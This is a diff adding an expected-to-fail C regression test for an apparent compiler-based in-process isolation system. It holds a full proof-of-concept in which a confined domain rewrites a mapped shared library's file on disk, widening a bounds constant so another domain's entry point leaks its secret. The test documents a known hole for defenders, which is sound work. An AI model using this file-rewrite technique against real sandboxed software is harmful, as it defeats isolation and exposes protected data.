@@ -1,0 +1,78 @@
+// A loaded library's data and constants are private mappings of its file:
+// pages the process has not written show the file's current bytes, and
+// Linux lets a shared library's file be written while it is mapped (the
+// loader copies only executable mappings, loader/scan.c). Grantless domain
+// `zeta` opens the library's file (its path from /proc/self/cmdline, in
+// its own memory) and rewrites the bound vault's entry checks, a constant
+// in vault's .rodata that nothing wrote in this process, from 16 to 32:
+// the entry then hands it the secret half of vault's record (its .data,
+// also unwritten). Expected to fail until the loader also puts private
+// copies in place of the loaded objects' other file mappings (or refuses
+// write-opens of their files); the same write works under every backend.
+// Found by attack round 25 (issue #15's session, 2026-11-27).
+// XFAIL: *
+// RUN: rm -rf %t.dir && mkdir -p %t.dir
+// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 -shared -fPIC %S/Inputs/library-data-lib.c -o %t.dir/libdata.so
+// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 %s -o %t -L%t.dir -ldata -Wl,-rpath,%t.dir
+// RUN: %dipc-bin-dir/dipc-run --backend=none %t %t.dir/libdata.so 2>&1 | FileCheck %s --check-prefix=STOLEN
+// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 -shared -fPIC %S/Inputs/library-data-lib.c -o %t.dir/libdata.so
+// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t %t.dir/libdata.so 2>&1 | FileCheck %s --check-prefix=SFI
+// STOLEN: word 2 before: -1
+// STOLEN-NEXT: zeta wrote 4 bytes of the library's file
+// STOLEN-NEXT: stole 'vault-secret-42'
+// SFI: word 2 before: -1
+// SFI: nothing stolen
+#define _GNU_SOURCE
+#include <dipc.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+
+long vault_public_word(long i) __dom("vault") __entry;
+
+static char zpath[4096] __dom("zeta");
+static char zbuf[65536] __dom("zeta");
+static const char marker[] __dom("zeta") = "VAULT-LEN-MARKR";
+static const unsigned wider __dom("zeta") = 32;
+static long zloot[3] __dom("zeta");
+
+// Widens the bound in the library's file, then asks vault's entry for the
+// words past the public half. Returns the bytes written, or -1.
+long zeta_attack(void) __dom("zeta") __entry {
+  int fd = open("/proc/self/cmdline", O_RDONLY); // argv[1]: the library
+  ssize_t got = fd < 0 ? -1 : read(fd, zbuf, sizeof zbuf - 1);
+  close(fd);
+  if (got <= 0)
+    return -1;
+  zbuf[got] = 0;
+  strcpy(zpath, zbuf + strlen(zbuf) + 1);
+  fd = open(zpath, O_RDWR);
+  if (fd < 0)
+    return -1;
+  long written = 0;
+  ssize_t n = pread(fd, zbuf, sizeof zbuf, 0);
+  for (ssize_t i = 0; i + 20 <= n; i++)
+    if (!memcmp(zbuf + i, marker, 16))
+      written += pwrite(fd, &wider, sizeof wider, i + 16);
+  close(fd);
+  zloot[0] = vault_public_word(2);
+  zloot[1] = vault_public_word(3);
+  return written;
+}
+long zeta_loot(long i) __dom("zeta") __entry { return zloot[i]; }
+
+int main(int argc, char **argv) {
+  (void)argv;
+  if (argc < 2)
+    return 2;
+  printf("word 2 before: %ld\n", vault_public_word(2));
+  long w = zeta_attack();
+  printf("zeta wrote %ld bytes of the library's file\n", w);
+  long loot[3] = {zeta_loot(0), zeta_loot(1), 0};
+  if (loot[0] != -1)
+    printf("stole '%s'\n", (char *)loot);
+  else
+    printf("nothing stolen\n");
+  return 0;
+}
